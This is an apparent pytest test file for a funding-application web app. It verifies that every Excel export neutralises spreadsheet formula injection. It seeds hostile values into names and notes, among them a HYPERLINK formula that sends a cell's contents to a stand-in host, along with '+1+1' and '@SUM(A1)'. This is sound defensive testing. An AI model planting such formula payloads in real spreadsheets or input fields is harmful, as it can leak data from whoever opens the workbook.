"""No export carries a live formula: hostile text typed at the real doors comes back from every workbook as text.

An enterprise names itself ``=HYPERLINK(…)`` and the admin names people ``+1+1`` and ``@SUM(A1)`` (kept as
typed, and Excel would read them as formulas; a payment's voucher starting so is refused at the door); every Excel
download that can hold them is read back with openpyxl, and no cell of any sheet is a formula.
"""

import io
from datetime import date

import openpyxl
import polars as pl
import pytest

from huiqi.funding import service as budgets
from huiqi.web.excel import Table, looks_like_formula, safe_workbook, workbook
from tests.dbtest import ALICE_USCC, second_admin, step, to_announced
from tests.webtest import bearer

pytestmark = pytest.mark.anyio

LINK = '=HYPERLINK("http://x/?a="&C3,"点击")'
SUM = "=1+1"
PLUS = "+1+1"
HOSTILE = (LINK, SUM, "+1", "-1+2", "@SUM(A1)", "\t=1+1", "\r=1+1")
KEPT = set(HOSTILE) - {"\r=1+1"}  # XML reads a lone CR back as a line feed


def formulas(content: bytes) -> list[str]:
    """Every formula cell of every sheet, by its coordinate."""
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [f"{sheet.title}!{cell.coordinate}" for sheet in book for row in sheet.iter_rows() for cell in row
            if cell.data_type == "f"]


def unquoted(content: bytes) -> list[str]:
    """Every text cell a spreadsheet could take for a formula once edited, written without the quote prefix."""
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [f"{sheet.title}!{cell.coordinate}" for sheet in book for row in sheet.iter_rows() for cell in row
            if looks_like_formula(cell.value) and not cell.quotePrefix]


def texts(content: bytes) -> set[str]:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return {c for sheet in book for row in sheet.iter_rows(values_only=True) for c in row if isinstance(c, str)}


def test_the_shared_writer_writes_formula_like_text_as_text() -> None:
    content = workbook(Table("清单", ("单位", "金额"), [(text, 1) for text in HOSTILE], money={"金额"}))
    assert formulas(content) == [] and unquoted(content) == []
    assert texts(content) >= KEPT


def test_workbooks_written_through_polars_keep_text_as_text(tmp_path) -> None:
    path = tmp_path / "report.xlsx"
    with safe_workbook(path) as book:
        pl.DataFrame({"单位": list(HOSTILE)}).write_excel(book, worksheet="测算结果")
    assert formulas(path.read_bytes()) == []
    assert texts(path.read_bytes()) >= KEPT


async def test_no_export_holds_a_formula(client, browser, session, people, tmp_path, set_today) -> None:
    alice = bearer(session, people.alice)
    current = (await client.get(f"/api/v1/applicants/{ALICE_USCC}", headers=alice)).json()["profile"]
    profile = {k: v for k, v in current.items() if k not in ("version", "recorded_at", "recorded_by")}
    renamed = await client.put(f"/api/v1/applicants/{ALICE_USCC}", headers=alice, json=profile | {"name": LINK})
    assert renamed.status_code == 200, renamed.text
    app = to_announced(session, people.alice, [people.shenyang, people.miit], matter="h1", measure=3,
                       amount=1_000_000, proposed=800_000, store=tmp_path)
    budgets.set_budget(session, actor=people.finance, year=2025, policy_id="ln-2022-35", measure=3, amount=5_000_000)
    step(session, "approve", people.finance, app.id, on=date(2025, 10, 13))
    set_today(date(2025, 10, 20))
    paid = await client.post("/api/v1/disbursements", headers=bearer(session, people.finance),
                             json={"application_id": app.id, "paid_on": "2025-10-20", "reference": "GK-2025-1"})
    assert paid.status_code == 201, paid.text
    user = await client.post("/api/v1/users", headers=bearer(session, people.admin), json={
        "username": "mallet", "display_name": "@SUM(A1)", "role": "finance", "password": "long enough password"})
    assert user.status_code == 201, user.text
    plus = await client.post("/api/v1/users", headers=bearer(session, people.admin), json={
        "username": "plus", "display_name": PLUS, "role": "finance", "password": "long enough password"})
    assert plus.status_code == 201, plus.text
    admin = browser(people.admin)
    proposed = await admin.post("/admin/whitelist", data={"note": "=1+1"})
    version_id = int(proposed.headers["location"].rsplit("/", 1)[1])
    assert (await browser(second_admin(session)).post(f"/admin/whitelist/{version_id}/publish")).status_code == 303
    number = (await client.get(f"/api/v1/whitelist/versions/{version_id}")).json()["edition"]

    exports = {
        "/review.xlsx": people.admin, "/api/v1/applications/export.xlsx": people.admin,
        f"/whitelist/{number}.xlsx": None, f"/admin/whitelist/{version_id}/export.xlsx": people.admin,
        "/disbursements.xlsx": people.finance, "/budgets.xlsx?year=2025": people.finance,
        "/announcements/manage.xlsx": people.miit, "/statistics.xlsx?by=measure": people.admin,
        "/admin/users.xlsx": people.admin, "/audit/events.xlsx": people.auditor,
    }
    seen: set[str] = set()
    for url, who in exports.items():
        response = await browser(who).get(url)
        assert response.status_code == 200, f"{url}: {response.status_code}"
        assert formulas(response.content) == [], f"{url} holds a formula"
        assert unquoted(response.content) == [], f"{url} holds formula-like text without the quote prefix"
        seen |= texts(response.content)
    assert {LINK, PLUS, "@SUM(A1)"} <= seen, "the hostile text is kept, as text"
